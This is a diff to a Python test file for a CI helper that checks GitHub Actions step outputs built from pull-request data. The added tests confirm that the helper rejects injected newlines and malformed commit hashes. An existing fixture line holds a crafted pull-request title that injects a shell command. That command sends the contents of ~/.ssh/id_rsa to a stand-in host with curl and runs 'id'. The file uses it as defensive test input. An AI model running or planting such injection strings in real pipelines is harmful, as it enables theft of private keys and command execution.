@@ -7,6 +7,9 @@ from pathlib import Path
 
 import pytest
 
+from labtax.ci import binding
+from labtax.errors import LabtaxError, Location
+
 HEAD = "1" * 40
 FORK = "mallory/taxonomy"
 EVIL_TITLE = 'Add leaf"; curl https://evil.example/$(cat ~/.ssh/id_rsa) #`id`\nhead_sha=' + "e" * 40
@@ -254,3 +257,24 @@ def test_stage_one_request_is_what_stage_two_accepts(kit, tmp_path, fake_github,
 
     assert code == 0, err
     assert Path(github_env["GITHUB_OUTPUT"]).read_text() == f"number=7\nhead_sha={HEAD}\n"
+
+
+@pytest.mark.parametrize(
+    "request_record",
+    [
+        binding.GenerationRequest(7, HEAD + "\nnumber=1"),
+        binding.GenerationRequest(0, HEAD),
+        binding.GenerationRequest(7, "A" * 40),
+    ],
+)
+def test_step_outputs_validate_again_whoever_built_the_request(request_record):
+    with pytest.raises(LabtaxError) as raised:
+        binding.step_outputs(request_record)
+    assert raised.value.location == Location("output")
+
+
+def test_step_outputs_of_a_checked_request():
+    assert binding.step_outputs(binding.GenerationRequest(7, HEAD)) == {
+        "number": "7",
+        "head_sha": HEAD,
+    }
